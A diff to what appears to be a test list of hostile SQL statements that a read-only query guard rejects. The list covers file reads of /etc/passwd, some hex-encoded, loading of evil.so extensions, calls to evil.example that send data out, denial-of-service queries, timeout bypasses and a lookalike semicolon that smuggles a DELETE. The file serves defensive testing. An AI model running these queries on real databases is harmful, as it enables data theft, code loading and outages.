@@ -46,6 +46,7 @@ HOSTILE: list[tuple[str, Dialect, str]] = [
     ("select-into", "mysql", "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'"),
     ("select-into", "mysql", "SELECT * FROM users INTO DUMPFILE '/tmp/x'"),
     ("select-into", "mysql", "SELECT name INTO @v FROM users"),
+    ("select-into", "mysql", "SELECT * FROM users INTO OUTFILE '/tmp/u.csv' FIELDS TERMINATED BY ','"),
     # --- locking
     ("locking", "postgres", "SELECT * FROM users FOR UPDATE"),
     ("locking", "postgres", "SELECT * FROM users FOR SHARE NOWAIT"),
@@ -69,6 +70,7 @@ HOSTILE: list[tuple[str, Dialect, str]] = [
     ("set", "postgres", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"),
     ("set", "postgres", "SELECT set_config('statement_timeout', '0', false)"),
     ("set", "mysql", "SET GLOBAL max_execution_time = 0"),
+    ("set", "mysql", "SET STATEMENT max_statement_time = 0 FOR SELECT SLEEP(10)"),  # MariaDB
     ("load", "mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE users"),
     ("load", "sqlite", "SELECT load_extension('{tmp}/evil.so')"),
     ("load", "postgres", "LOAD '/tmp/evil.so'"),
@@ -87,6 +89,7 @@ HOSTILE: list[tuple[str, Dialect, str]] = [
     ("files", "sqlite", "SELECT readfile('/etc/passwd')"),
     ("files", "sqlite", "SELECT writefile('{tmp}/x', 'data')"),
     ("files", "mysql", "SELECT LOAD_FILE('/etc/passwd')"),
+    ("files", "mysql", "SELECT * FROM users WHERE name = LOAD_FILE(0x2f6574632f706173737764)"),
     ("network", "postgres", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)"),
     ("network", "postgres", "SELECT content FROM http_get('http://evil.example/?' || (SELECT 1))"),
     ("network", "postgres", "SELECT net.http_post('http://evil.example', '{}'::jsonb)"),
@@ -154,6 +157,7 @@ HOSTILE: list[tuple[str, Dialect, str]] = [
     ("dos", "postgres", "SELECT repeat('x', 1000000000)"),
     ("dos", "mysql", "SELECT REPEAT('x', 1000000000)"),
     ("dos", "mysql", "SELECT LPAD('x', 1000000000, 'y')"),
+    ("dos", "mysql", "SELECT * FROM seq_1_to_100000000000"),  # MariaDB's sequence engine
     # --- other statements
     ("statement", "sqlite", "BEGIN IMMEDIATE"),
     ("statement", "postgres", "COMMIT"),
@@ -165,6 +169,7 @@ HOSTILE: list[tuple[str, Dialect, str]] = [
     ("statement", "mysql", "HANDLER users OPEN"),
     ("statement", "mysql", "SHOW GRANTS"),
     ("statement", "mysql", "KILL 1"),
+    ("statement", "mysql", "SHOW PROCESSLIST"),
     ("hint", "mysql", "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ * FROM users"),
     # --- unicode lookalikes and invisible characters
     ("unicode", "sqlite", "SELECT * FROM users\uff1bDELETE FROM users"),  # fullwidth semicolon
